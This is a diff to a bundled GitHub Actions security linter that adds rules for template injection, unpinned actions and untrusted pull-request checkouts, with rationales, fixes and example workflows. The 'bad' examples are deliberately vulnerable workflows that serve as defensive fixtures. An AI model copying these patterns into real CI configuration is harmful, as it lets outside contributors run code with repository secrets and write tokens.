+        'https://docs.zizmor.sh/audits/#template-injection',
+        'https://codeql.github.com/codeql-query-help/actions/actions-code-injection-critical/',
+    ],
+    examples: {
+        bad: [
+            {
+                path: '.github/workflows/greet.yml',
+                text: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Thanks for ${{ github.event.pull_request.title }}"\n',
+                line: 6,
+            },
+            {
+                path: '.github/workflows/triage.yml',
+                text: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log("${{ github.event.issue.body }}")\n',
+                line: 9,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/greet.yml',
+                text: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Thanks for $TITLE (#${{ github.event.pull_request.number }})"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n',
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        const seen = new Set();
+        for (const { job, step } of allSteps(wf)) {
+            for (const sink of sinks(step)) {
+                const range = sink.value.node?.range;
+                if (!range)
+                    continue;
+                const raw = wf.text.slice(range[0], range[1]);
+                const comments = sink.shell ? commentLines(raw) : [];
+                for (const e of findExpressions(raw)) {
+                    const at = range[0] + e.start;
+                    if (seen.has(at) || comments.some(([a, b]) => e.start >= a && e.start < b))
+                        continue;
+                    seen.add(at);
+                    const t = worst(taintOfExpression(e.body, { wf, job, step }));
+                    if (!t)
+                        continue;
+                    const text = raw.slice(e.start, e.end);
+                    const oneLine = text.replace(/\s+/g, ' ');
+                    const name = envNameFor(oneLine);
+                    const kind = scriptKind(step);
+                    const ref = kind === 'pwsh' ? `$env:${name}` : kind === 'js' ? `process.env.${name}` : kind === 'python' ? `os.environ["${name}"]` : `"$${name}"`;
+                    ctx.report({
+                        message: `\`${oneLine}\` in the ${sink.label} expands ${t.what} ${triggerText(wf)}: the text becomes code. ` +
+                            `Pass it through \`env:\` (\`${name}: ${oneLine}\`) and use ${ref} instead.`,
+                        at: wf.file.spanOf({ range: [at, range[0] + e.end, range[0] + e.end] }),
+                        severity: t.severity,
+                        confidence: t.confidence,
+                    });
+                }
+            }
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/unpinned-action.ts
+
+
+const unpinned_action_SHA = 'a'.repeat(8) + 'b'.repeat(8) + 'c'.repeat(8) + 'd'.repeat(8) + 'e'.repeat(8);
+/** The default policy for every owner; a later config option can map owners to `ref-pin` or `any`. */
+const POLICY = 'hash-pin';
+/* harmony default export */ const unpinned_action = ({
+    id: 'unpinned-action',
+    title: 'Action or reusable workflow not pinned to a commit SHA',
+    severity: 'high',
+    area: 'workflows',
+    summary: 'A step, composite-action step or reusable-workflow call `uses:` an action by tag, branch or short SHA instead of a full 40-character commit SHA.',
+    rationale: 'Tags and branches are mutable: whoever controls the action repository (its maintainer, an attacker with a stolen token) can point `v4` at new ' +
+        'code, and every workflow that uses the tag runs it with your token and secrets on its next run. This is how the tj-actions/changed-files ' +
+        'compromise (CVE-2025-30066) spread to thousands of repositories. A full commit SHA cannot be moved. The policy is the same for every owner, ' +
+        'including `actions/*` and `github/*`, as OpenSSF Scorecard scores it. Local actions (`./…`) are exempt; `docker://` images are checked by ' +
+        '`unpinned-image` and `latest-image-tag`.',
+    fix: 'Pin to the commit the tag points at and keep the tag as a comment, so humans and Dependabot/Renovate can read and update it: ' +
+        '`uses: actions/checkout@<40-hex sha> # v4.2.2` (find it with `git ls-remote https://github.com/actions/checkout refs/tags/v4.2.2`, ' +
+        'or let `pinact`, `ratchet` or `frizbee` rewrite the file).',
+    references: [
+        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions',
+        'https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies',
+        'https://docs.zizmor.sh/audits/#unpinned-uses',
+        'https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-tj-actionschanged-files-cve-2025-30066-and-reviewdogaction',
+    ],
+    examples: {
+        bad: [
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n',
+                line: 6,
+            },
+            {
+                path: '.github/workflows/release.yml',
+                text: 'on: push\njobs:\n  release:\n    uses: my-org/shared/.github/workflows/release.yml@main\n',
+                line: 4,
+            },
+            {
+                path: 'action.yml',
+                text: 'name: setup\nruns:\n  using: composite\n  steps:\n    - uses: github/codeql-action/init@v3\n    - uses: some-org/tool@1a2b3c4\n',
+                line: 6,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/ci.yml',
+                text: `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${unpinned_action_SHA} # v4.2.2\n      - uses: ./.github/actions/setup\n      - uses: docker://alpine:3.20\n`,
+            },
+            {
+                path: '.github/workflows/release.yml',
+                text: `on: push\njobs:\n  local:\n    uses: ./.github/workflows/build.yml\n  shared:\n    uses: my-org/shared/.github/workflows/release.yml@${unpinned_action_SHA}\n`,
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        const seen = new Set();
+        const uses = [...wf.jobs.flatMap((j) => (j.uses ? [j.uses] : [])), ...allSteps(wf).flatMap(({ step }) => (step.uses ? [step.uses] : []))];
+        for (const u of uses) {
+            const ref = parseUses(u.value);
+            if (ref?.kind !== 'repo')
+                continue;
+            const problem = pinPolicyViolation(ref.ref, POLICY);
+            if (problem === undefined)
+                continue;
+            const at = wf.spanWithin(u.node, u.value.trim()) ?? u.span;
+            // A step reused through a YAML alias is one reference in the file: report it once.
+            const key = `${at.line}:${at.column}`;
+            if (seen.has(key))
+                continue;
+            seen.add(key);
+            const target = `${ref.repo}${ref.path ? `/${ref.path}` : ''}`;
+            const what = ref.workflow ? 'reusable workflow' : 'action';
+            ctx.report({
+                message: `The ${what} ${target} ${problem}: pin it to a full commit SHA, \`${target}@<40-hex sha of ${ref.ref ?? 'the release'}> # ${ref.ref ?? 'vX.Y.Z'}\``,
+                at,
+            });
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/untrusted-checkout.ts
+
+const PRT = `on: pull_request_target
+permissions:
+  contents: read
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          ref: \${{ github.event.pull_request.head.sha }}
+      - run: npm ci && npm test
+`;
+/* harmony default export */ const untrusted_checkout = ({
+    id: 'untrusted-checkout',
+    title: 'Pull request code checked out in a privileged workflow',
+    severity: 'critical',
+    area: 'workflows',
+    summary: 'A workflow triggered by `pull_request_target`, `workflow_run` or `issue_comment` checks out the pull request head ' +
+        '(`actions/checkout` with a PR `ref`/`repository`, `gh pr checkout`, `git fetch … pull/N/head`) and then runs code from it.',
+    rationale: 'These triggers run with the base repository\'s secrets and a token that can write, even when the event comes from a fork. ' +
+        'Checking out the fork\'s code and then running a build, test, install or local script from it ("pwn request") lets anyone who ' +
+        'opens a pull request execute their code with those secrets and that token: `npm install` runs their `preinstall` script, `make` ' +
+        'runs their Makefile, `./build.sh` is theirs. A checkout with nothing run after it in the job is still reported (high), because ' +
+        'a later edit that adds a build step turns it critical. A job guarded by a label, author or actor condition is reported at medium ' +
+        'confidence (labels can be applied and the code changed afterwards); a same-repository guard (`head.repo.full_name == github.repository`) at low confidence. ' +
+        'Refs taken from a step output that looks like a PR lookup are reported at medium confidence.',
+    fix: 'Run untrusted code under the `pull_request` trigger, which gets a read-only token and no secrets. If the privileged part is needed ' +
+        '(commenting, labelling), split the workflow: build and test on `pull_request`, upload the results as an artifact, and handle them ' +
+        'in a `workflow_run` workflow that treats them as data and never executes them. If you must check out the PR head here, do not run ' +
+        'anything from it, set `persist-credentials: false`, and give the job `permissions: {}`.',
+    references: [
+        'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
+        'https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target',
+        'https://github.com/boostsecurityio/poutine/blob/main/docs/content/en/rules/untrusted_checkout_exec.md',
+        'https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow',
+    ],
+    examples: {
+        bad: [
+            { path: '.github/workflows/ci.yml', text: PRT, line: 10 },
+            {
+                path: '.github/workflows/comment.yml',
+                text: 'on:\n  issue_comment:\n    types: [created]\njobs:\n  test:\n    if: github.event.issue.pull_request\n    runs-on: ubuntu-latest\n' +
+                    '    steps:\n      - uses: actions/checkout@v4\n      - run: gh pr checkout ${{ github.event.issue.number }}\n' +
+                    '        env:\n          GH_TOKEN: ${{ github.token }}\n      - run: make test\n',
+                line: 10,
+            },
+            {
+                path: '.github/workflows/after-ci.yml',
+                text: 'on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\njobs:\n  report:\n    runs-on: ubuntu-latest\n    steps:\n' +
+                    '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - uses: ./.github/actions/report\n',
+                line: 11,
+            },
+        ],
+        good: [
+            { path: '.github/workflows/ci.yml', text: PRT.replace('pull_request_target', 'pull_request') },
+            {
+                path: '.github/workflows/label.yml',
+                text: 'on: pull_request_target\npermissions:\n  pull-requests: write\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n' +
+                    '      - uses: actions/checkout@v4\n      - run: npm ci && node scripts/label.js\n',
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        const trigger = privilegedTriggers(wf)[0];
+        for (const c of untrustedCheckouts(wf)) {
+            const exec = firstExecutingStep(c.job, c.step.index);
+            const related = [
+                { at: c.step.span, label: 'checks out the pull request head' },
+                ...(exec ? [{ at: exec.step.span, label: `runs code from the checkout: ${exec.what}` }] : []),
+                ...(trigger ? [{ at: trigger.span, label: `privileged trigger \`${trigger.name}\`` }] : []),
+            ];
+            ctx.report({
+                message: exec
+                    ? `Job \`${c.job.id}\` checks out pull request code with ${c.how} under \`${trigger?.name}\` and then runs it (${exec.what}): ` +
+                        'a pull request author can run code with this workflow\'s secrets and write token. Build untrusted code under `pull_request` instead.'
+                    : `Job \`${c.job.id}\` checks out pull request code with ${c.how} under \`${trigger?.name}\`; nothing runs it yet in this job, ` +
+                        'but any build or script step added later would run the author\'s code with secrets. Prefer `pull_request`, or never execute the checkout.',
+                at: c.at,
+                severity: exec ? 'critical' : 'high',
+                confidence: c.confidence,
+                related,
+            });
+        }
+    },
+});
+
 ;// CONCATENATED MODULE: ./src/rules/index.ts
+
+
+
+
+
+
+
+
+
+
+
+
+
 
 
 
@@ -46407,11 +50076,24 @@ const place = (dir) => (dir === '' ? 'the repository root' : `${dir}/`);
 
 /** Every rule, sorted by id. Bundles cannot scan folders, so this list is explicit; a test keeps it complete. */
 const rules_rules = [
+    curl_pipe_shell,
+    dangerous_trigger,
+    excessive_permissions,
+    github_env_injection,
+    hardcoded_credential,
+    insecure_commands,
     latest_image_tag,
     missing_lockfile,
+    non_frozen_install,
+    persisted_credentials,
     runs_as_root,
     secret_in_env,
+    secrets_inherit,
+    self_hosted_runner,
+    template_injection,
+    unpinned_action,
     unpinned_image,
+    untrusted_checkout,
 ];
 function findRule(id) {
     return rules_rules.find((r) => r.id === id);
@@ -46705,7 +50387,7 @@ function dockerfile_build(path, text, notices) {
         });
         return undefined;
     }
-    const doc = { path, escapeChar, globalArgs: [], stages: [], keyValues: [], images: [] };
+    const doc = { path, text, escapeChar, globalArgs: [], stages: [], keyValues: [], images: [] };
     const globals = new Map();
     const globalScope = (n) => globals.get(n);
     let stage;
@@ -46887,259 +50569,6 @@ function linkReferences(doc) {
             if (ref.stage !== undefined)
                 queue.push(ref.stage);
     }
-}
-
-;// CONCATENATED MODULE: ./src/parsers/yaml.ts
-
-/** Files larger than this are not parsed as YAML: no rule needs them and parsing costs ~0.5 s/MiB. */
-const MAX_YAML_BYTES = 2 * 1024 * 1024;
-function parseYaml(path, text, notices) {
-    if (text.length > MAX_YAML_BYTES) {
-        notices.push({ path, message: `not parsed as YAML: larger than ${MAX_YAML_BYTES / 1024 / 1024} MiB` });
-        return undefined;
-    }
-    const lineCounter = new yaml_dist/* LineCounter */.HN();
-    let documents;
-    try {
-        documents = (0,yaml_dist/* parseAllDocuments */.hR)(text, { lineCounter, uniqueKeys: false, prettyErrors: false });
-    }
-    catch (err) {
-        notices.push({ path, message: `invalid YAML: ${err.message.split('\n')[0]}` });
-        return undefined;
-    }
-    if (!Array.isArray(documents))
-        documents = [];
-    const firstError = documents.flatMap((d) => d.errors)[0];
-    if (firstError) {
-        const at = lineCounter.linePos(firstError.pos[0]);
-        notices.push({ path, line: at.line, message: `invalid YAML: ${firstError.message.split('\n')[0]}` });
-        documents = documents.filter((d) => d.errors.length === 0);
-    }
-    const span = (start, end) => {
-        const a = lineCounter.linePos(start);
-        const b = lineCounter.linePos(Math.max(start, end));
-        return { line: a.line, column: a.col, endLine: b.line, endColumn: b.col };
-    };
-    const spanOf = (node) => {
-        const range = node?.range;
-        return range ? span(range[0], range[1]) : { line: 1, column: 1, endLine: 1, endColumn: 1 };
-    };
-    return {
-        path,
-        documents,
-        spanOf,
-        keySpanOf(map, key) {
-            if ((0,yaml_dist/* isMap */.jh)(map)) {
-                for (const pair of map.items) {
-                    if ((0,yaml_dist/* isScalar */.jn)(pair.key) && String(pair.key.value) === key)
-                        return spanOf(pair.key);
-                }
-            }
-            return spanOf(map);
-        },
-    };
-}
-/** Follows an alias to the node it names (one hop; the yaml library rejects cycles). */
-function resolveNode(node, doc) {
-    if ((0,yaml_dist/* isAlias */.Vj)(node))
-        return node.resolve(doc) ?? undefined;
-    return node ?? undefined;
-}
-/** Value node of `key` in a map node, aliases resolved. */
-function getNode(map, key, doc) {
-    const m = resolveNode(map, doc);
-    if (!(0,yaml_dist/* isMap */.jh)(m))
-        return undefined;
-    for (const pair of m.items) {
-        if ((0,yaml_dist/* isScalar */.jn)(pair.key) && String(pair.key.value) === key)
-            return resolveNode(pair.value, doc);
-    }
-    return undefined;
-}
-function scalarString(node) {
-    if ((0,yaml_dist/* isScalar */.jn)(node) && node.value !== null && node.value !== undefined)
-        return String(node.value);
-    return undefined;
-}
-
-
-;// CONCATENATED MODULE: ./src/parsers/workflow.ts
-
-
-function isWorkflowPath(path) {
-    return /(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(path);
-}
-function isActionPath(path) {
-    return /(^|\/)action\.ya?ml$/i.test(path);
-}
-function workflowFromYaml(file, text, notices) {
-    const doc = file.documents[0];
-    if (!doc)
-        return undefined;
-    const root = resolveNode(doc.contents, doc);
-    if (!(0,yaml_dist/* isMap */.jh)(root)) {
-        notices.push({ path: file.path, message: 'not a workflow: the top level is not a mapping' });
-        return undefined;
-    }
-    const type = isActionPath(file.path) && !isWorkflowPath(file.path) ? 'action' : 'workflow';
-    const str = (node) => {
-        const n = resolveNode(node, doc);
-        const v = scalarString(n);
-        return v === undefined ? undefined : { value: v, span: file.spanOf(n), node: n };
-    };
-    const mapOf = (node) => {
-        const out = new Map();
-        const n = resolveNode(node, doc);
-        if (!(0,yaml_dist/* isMap */.jh)(n))
-            return out;
-        for (const pair of n.items) {
-            const key = scalarString(pair.key);
-            const v = resolveNode(pair.value, doc);
-            if (key === undefined)
-                continue;
-            out.set(key, { value: scalarString(v) ?? '', span: file.spanOf((v ?? pair.key)), node: (v ?? pair.key) });
-        }
-        return out;
-    };
-    const permissions = (node) => {
-        const n = resolveNode(node, doc);
-        if (!n)
-            return undefined;
-        const s = scalarString(n);
-        if (s !== undefined) {
-            const shorthand = s === 'read-all' || s === 'write-all' ? s : s === '' ? 'none' : undefined;
-            return { span: file.spanOf(n), shorthand, scopes: new Map() };
-        }
-        const scopes = mapOf(n);
-        return { span: file.spanOf(n), shorthand: scopes.size === 0 ? 'none' : undefined, scopes };
-    };
-    const steps = (node) => {
-        const n = resolveNode(node, doc);
-        if (!(0,yaml_dist/* isSeq */.oP)(n))
-            return [];
-        return n.items.flatMap((item, index) => {
-            const s = resolveNode(item, doc);
-            if (!(0,yaml_dist/* isMap */.jh)(s))
-                return [];
-            const step = {
-                index,
-                span: file.spanOf(s),
-                node: s,
-                id: str(getNode(s, 'id', doc))?.value,
-                name: str(getNode(s, 'name', doc))?.value,
-                uses: str(getNode(s, 'uses', doc)),
-                run: str(getNode(s, 'run', doc)),
-                shell: str(getNode(s, 'shell', doc))?.value,
-                with: mapOf(getNode(s, 'with', doc)),
-                env: mapOf(getNode(s, 'env', doc)),
-                if: str(getNode(s, 'if', doc)),
-            };
-            return [step];
-        });
-    };
-    const imageUse = (node, label) => {
-        const n = resolveNode(node, doc);
-        const image = (0,yaml_dist/* isMap */.jh)(n) ? str(getNode(n, 'image', doc)) : str(n);
-        if (!image)
-            return undefined;
-        const cred = (0,yaml_dist/* isMap */.jh)(n) ? resolveNode(getNode(n, 'credentials', doc), doc) : undefined;
-        return {
-            image,
-            label,
-            credentials: (0,yaml_dist/* isMap */.jh)(cred) ? { username: str(getNode(cred, 'username', doc)), password: str(getNode(cred, 'password', doc)) } : undefined,
-        };
-    };
-    const triggers = [];
-    const onPair = root.items.find((p) => scalarString(p.key) === 'on' || ((0,yaml_dist/* isScalar */.jn)(p.key) && p.key.value === true));
-    const on = resolveNode(onPair?.value, doc);
-    if ((0,yaml_dist/* isScalar */.jn)(on) && on.value !== null)
-        triggers.push({ name: String(on.value), span: file.spanOf(on) });
-    else if ((0,yaml_dist/* isSeq */.oP)(on))
-        for (const t of on.items) {
-            const l = str(t);
-            if (l)
-                triggers.push({ name: l.value, span: l.span });
-        }
-    else if ((0,yaml_dist/* isMap */.jh)(on))
-        for (const pair of on.items) {
-            const name = scalarString(pair.key);
-            if (name)
-                triggers.push({ name, span: file.spanOf(pair.key), config: resolveNode(pair.value, doc) });
-        }
-    const jobs = [];
-    const jobsNode = resolveNode(getNode(root, 'jobs', doc), doc);
-    if ((0,yaml_dist/* isMap */.jh)(jobsNode)) {
-        for (const pair of jobsNode.items) {
-            const id = scalarString(pair.key);
-            const j = resolveNode(pair.value, doc);
-            if (id === undefined || !(0,yaml_dist/* isMap */.jh)(j))
-                continue;
-            const runsOnNode = resolveNode(getNode(j, 'runs-on', doc), doc);
-            const runsOn = [];
-            if (runsOnNode) {
-                const labelsNode = (0,yaml_dist/* isMap */.jh)(runsOnNode) ? resolveNode(getNode(runsOnNode, 'labels', doc), doc) : runsOnNode;
-                const group = (0,yaml_dist/* isMap */.jh)(runsOnNode) ? scalarString(getNode(runsOnNode, 'group', doc)) : undefined;
-                const labels = (0,yaml_dist/* isSeq */.oP)(labelsNode) ? labelsNode.items.map((i) => scalarString(resolveNode(i, doc)) ?? '') : [scalarString(labelsNode) ?? ''];
-                runsOn.push({ value: [...labels.filter(Boolean), ...(group ? [`group:${group}`] : [])], span: file.spanOf(runsOnNode), node: runsOnNode });
-            }
-            const containers = [];
-            const c = imageUse(getNode(j, 'container', doc), 'container');
-            if (c)
-                containers.push(c);
-            const services = resolveNode(getNode(j, 'services', doc), doc);
-            if ((0,yaml_dist/* isMap */.jh)(services))
-                for (const sp of services.items) {
-                    const u = imageUse(sp.value, `service ${scalarString(sp.key) ?? ''}`);
-                    if (u)
-                        containers.push(u);
-                }
-            const envNode = resolveNode(getNode(j, 'environment', doc), doc);
-            jobs.push({
-                id,
-                keySpan: file.spanOf(pair.key),
-                node: j,
-                name: str(getNode(j, 'name', doc))?.value,
-                runsOn,
-                permissions: permissions(getNode(j, 'permissions', doc)),
-                containers,
-                environment: (0,yaml_dist/* isMap */.jh)(envNode) ? str(getNode(envNode, 'name', doc)) : str(envNode),
-                uses: str(getNode(j, 'uses', doc)),
-                secrets: str(getNode(j, 'secrets', doc)),
-                with: mapOf(getNode(j, 'with', doc)),
-                env: mapOf(getNode(j, 'env', doc)),
-                steps: steps(getNode(j, 'steps', doc)),
-                if: str(getNode(j, 'if', doc)),
-            });
-        }
-    }
-    let runs;
-    const runsNode = resolveNode(getNode(root, 'runs', doc), doc);
-    if ((0,yaml_dist/* isMap */.jh)(runsNode))
-        runs = { using: str(getNode(runsNode, 'using', doc)), image: str(getNode(runsNode, 'image', doc)), steps: steps(getNode(runsNode, 'steps', doc)) };
-    return {
-        type,
-        path: file.path,
-        file,
-        doc,
-        triggers,
-        permissions: permissions(getNode(root, 'permissions', doc)),
-        env: mapOf(getNode(root, 'env', doc)),
-        jobs,
-        runs,
-        spanWithin(node, needle, from = 0) {
-            const range = node?.range;
-            if (!range)
-                return undefined;
-            const at = text.indexOf(needle, range[0] + from);
-            if (at < 0 || at >= range[1])
-                return undefined;
-            return file.spanOf({ range: [at, at + needle.length, at + needle.length] });
-        },
-    };
-}
-/** Every step of a workflow or composite action, with the job it belongs to (undefined in an action). */
-function allSteps(wf) {
-    return [...wf.jobs.flatMap((job) => job.steps.map((step) => ({ job, step }))), ...(wf.runs?.steps ?? []).map((step) => ({ step }))];
 }
 
 ;// CONCATENATED MODULE: ./src/parsers/index.ts
@@ -47564,7 +50993,7 @@ function docsBaseUrl(ctx) {
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _action_main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1843);
+/* harmony import */ var _action_main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(2831);
 
 await (0,_action_main_js__WEBPACK_IMPORTED_MODULE_0__/* .run */ .e)();
 
@@ -50436,7 +53865,7 @@ exports.qg = publicApi.parse;
 exports.hR = publicApi.parseAllDocuments;
 __webpack_unused_export__ = publicApi.parseDocument;
 __webpack_unused_export__ = publicApi.stringify;
-__webpack_unused_export__ = visit.visit;
+exports.YR = visit.visit;
 __webpack_unused_export__ = visit.visitAsync;
 
 
